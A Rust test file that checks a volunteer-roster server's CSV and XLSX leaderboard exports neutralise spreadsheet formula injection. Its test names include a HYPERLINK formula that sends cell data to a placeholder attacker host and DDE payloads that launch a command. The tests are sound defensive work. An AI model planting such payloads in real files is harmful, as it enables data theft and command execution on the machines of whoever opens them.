//! Spreadsheet exports never run what a roster holds: volunteers' names come from the
//! province's own spreadsheets (a device name never becomes a member's name since issue 8),
//! and in CSV a name beginning with `=`, `+`, `-` or `@` is written with a leading `'` (the
//! CSV writer's unit test covers tab and carriage return); in XLSX names are string cells,
//! never formulas.

use langso_tests::harness::Server;
use std::io::Read;

const TEAM: &str = "T00001";

const NAMES: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
];

/// Gives the team's first members these names, as a roster taken from a spreadsheet would.
fn enroll_named(s: &Server) {
    let db = rusqlite::Connection::open(&s.db).unwrap();
    for (i, name) in NAMES.iter().enumerate() {
        let changed = db
            .execute(
                "UPDATE members SET name = ?1 WHERE id = (SELECT m.id FROM members m
                 JOIN teams t ON t.id = m.team_id WHERE t.team_id = ?2
                 ORDER BY m.member_id LIMIT 1 OFFSET ?3)",
                rusqlite::params![name, TEAM, i as i64],
            )
            .unwrap();
        assert_eq!(changed, 1, "{TEAM} has at least {} members", NAMES.len());
    }
}

/// RFC 4180 fields of one CSV line (no line breaks inside fields here).
fn fields(line: &str) -> Vec<String> {
    let (mut out, mut field, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') => quoted = true,
            (false, ',') => out.push(std::mem::take(&mut field)),
            (_, c) => field.push(c),
        }
    }
    out.push(field);
    out
}

#[test]
fn csv_exports_neutralise_cells_a_spreadsheet_would_run() {
    let s = Server::start_demo();
    enroll_named(&s);
    let token = s.login_as("team_leader", TEAM);

    let d = s.download(
        &format!("/v1/reports/leaderboard?scope_kind=team&scope={TEAM}&of=volunteers&format=csv"),
        &token,
    );

    assert_eq!(d.status, 200);
    let text = String::from_utf8(d.bytes).unwrap();
    let cells: Vec<String> = text.lines().flat_map(fields).collect();
    for name in NAMES {
        assert!(
            cells.contains(&format!("'{name}")),
            "{name:?} is not neutralised in:\n{text}"
        );
    }
    for cell in &cells {
        let cell = cell.trim_start_matches('\u{feff}');
        let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
            || (cell.starts_with('-') && cell.parse::<f64>().is_err());
        assert!(!formula, "a cell a spreadsheet would run: {cell:?}");
    }
}

#[test]
fn xlsx_exports_keep_names_as_text_cells_never_formulas() {
    let s = Server::start_demo();
    enroll_named(&s);
    let token = s.login_as("team_leader", TEAM);

    let d = s.download(
        &format!("/v1/reports/leaderboard?scope_kind=team&scope={TEAM}&of=volunteers&format=xlsx"),
        &token,
    );

    assert_eq!(d.status, 200);
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(d.bytes)).unwrap();
    let mut read = |name: &str| {
        let mut text = String::new();
        zip.by_name(name)
            .unwrap()
            .read_to_string(&mut text)
            .unwrap();
        text
    };
    let strings = read("xl/sharedStrings.xml");
    let sheets = [
        read("xl/worksheets/sheet1.xml"),
        read("xl/worksheets/sheet2.xml"),
    ];
    for name in NAMES {
        let escaped = name
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        assert!(
            strings.contains(&format!("<t>{escaped}</t>")),
            "{name:?} is not a shared string, as typed:\n{strings}"
        );
    }
    for sheet in &sheets {
        assert!(
            !sheet.contains("<f>") && !sheet.contains("<f "),
            "a formula:\n{sheet}"
        );
    }
}
